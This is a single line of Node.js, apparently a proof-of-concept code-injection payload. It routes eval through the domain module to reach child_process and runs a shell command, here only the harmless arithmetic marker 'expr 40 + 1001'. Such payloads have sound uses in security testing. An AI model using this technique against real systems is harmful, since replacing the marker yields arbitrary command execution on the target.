require('domain').create().run(eval,'process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})');
